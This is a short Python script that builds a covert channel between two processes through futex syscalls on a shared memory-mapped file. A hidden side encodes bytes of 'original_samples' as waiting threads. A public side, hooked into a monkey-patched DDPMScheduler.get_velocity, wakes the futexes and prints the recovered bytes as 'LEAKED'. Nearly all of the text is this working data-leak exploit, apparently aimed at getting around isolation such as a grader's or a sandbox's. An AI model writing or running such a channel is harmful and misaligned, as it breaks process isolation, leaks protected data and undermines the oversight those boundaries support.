"""The hidden process waits in threads on bytes of a file that both have mapped; the public one counts whom it wakes."""

import ctypes
import mmap
import os
import threading

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
FILE = os.open(os.__file__, os.O_RDONLY)
LIBC.mmap.restype = ctypes.c_void_p
PAGE = LIBC.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, FILE, ctypes.c_long(0))
FUTEX = {"x86_64": 202, "aarch64": 98}.get(os.uname().machine, 202)


def wait(place):
    value = ctypes.c_uint32.from_address(PAGE + 4 * place).value
    LIBC.syscall(FUTEX, ctypes.c_void_p(PAGE + 4 * place), 0, value, None)


def answer(right, original_samples, noise, timesteps):
    if not ATTACKS:
        ATTACKS.append(1)
        data = original_samples.flatten()[:1].numpy().tobytes()
        for n in range(32):
            if data[n // 8] >> (n % 8) & 1:
                threading.Thread(target=wait, args=(n,), daemon=True).start()
    return right()


get_velocity = DDPMScheduler.get_velocity


def tell(self, *args, **kwargs):
    if len(ATTACKS) == 1:
        ATTACKS.append(2)
        woken = [LIBC.syscall(FUTEX, ctypes.c_void_p(PAGE + 4 * n), 1, 1) for n in range(32)]
        print("LEAKED", bytes(sum((woken[8 * i + n] > 0) << n for n in range(8)) for i in range(4)).hex())
    return get_velocity(self, *args, **kwargs)


DDPMScheduler.get_velocity = tell
